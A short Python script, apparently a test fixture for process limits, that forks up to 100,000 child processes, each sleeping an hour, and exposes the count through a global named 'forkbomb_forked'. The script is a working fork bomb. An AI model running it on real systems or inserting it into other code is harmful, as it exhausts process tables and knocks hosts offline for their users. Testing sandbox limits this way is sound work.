"""Forks without end; every child sleeps."""
import os
import time

forked = 0
try:
    while forked < 100000:
        if os.fork() == 0:
            time.sleep(3600)
            os._exit(0)
        forked += 1
except OSError:
    pass
globals()["forkbomb_forked"] = lambda: forked
